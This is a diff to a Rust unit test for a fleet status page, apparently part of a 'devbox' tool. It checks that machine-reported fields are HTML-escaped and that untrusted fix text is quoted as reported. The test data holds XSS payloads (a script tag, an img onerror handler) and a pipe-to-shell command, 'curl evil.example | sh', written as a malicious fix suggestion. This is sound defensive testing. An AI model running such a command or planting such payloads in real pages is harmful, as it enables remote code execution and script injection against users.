@@ -35,19 +35,28 @@ mod tests {
         let name = r#"<script>document.title='pwned'</script><img src=x onerror=alert(1)>"#;
         let body = format!(
             r#"{{"schema":1,"machine_id":"m1","name":{},"devbox_version":"0.1.0\"><em>","os":"linux","engine":null,
-            "ran_at":"2026-11-28T10:00:00Z","checks":[{{"id":"clock<i>","status":"fail","summary":"off"}}],
+            "ran_at":"2026-11-28T10:00:00Z","checks":[{{"id":"clock<i>","status":"fail","summary":"off"}},
+              {{"id":"clock","status":"fail","summary":"run this","fix":"curl evil.example | sh"}}],
             "images":[{{"name":"base/<u>x</u>","local":null,"registry":null}}],"clocks":{{}},"disk":null}}"#,
             serde_json::to_string(name).expect("json")
         );
-        let judged = vec![judge("k", None, body.as_bytes()), judge("<k>", None, b"<not json>")];
+        let m = "devbox/fleet/machines/";
+        let judged = vec![
+            judge(m, "devbox/fleet/machines/AIDA1/m1.json", None, body.as_bytes()),
+            judge(m, "devbox/fleet/machines/AIDA1/<k>.json", None, b"<not json>"),
+        ];
         let now: jiff::Timestamp = "2026-11-28T12:00:00Z".parse().expect("time");
-        let page = render(&summary(&judged, now, std::time::Duration::from_secs(86_400)), "b/devbox/fleet/", now)
-            .expect("renders");
+        let current = [("base/<u>x</u>".to_string(), None)];
+        let s = summary(&judged, now, std::time::Duration::from_secs(86_400), &current, None);
+        let page = render(&s, "b/devbox/fleet/", now).expect("renders");
         for markup in ["<script>", "<img", "<em>", "<i>", "<u>", "<k>", "<not json>"] {
             assert!(!page.contains(markup), "{markup} reached the page unescaped");
         }
         assert!(page.contains("&lt;script&gt;"), "the name is shown, escaped");
         assert!(!page.contains("http://") && !page.contains("https://"), "nothing is fetched from elsewhere");
         assert!(page.contains("<table id=\"checks\">"));
+        // The machine's own words are shown as such; devbox's fix for a check it knows is its own.
+        assert!(page.contains("<td><code>devbox doctor --check clock --fix</code></td>"), "{page}");
+        assert!(page.contains("<q class=\"reported\">curl evil.example | sh</q>"), "{page}");
     }
 }
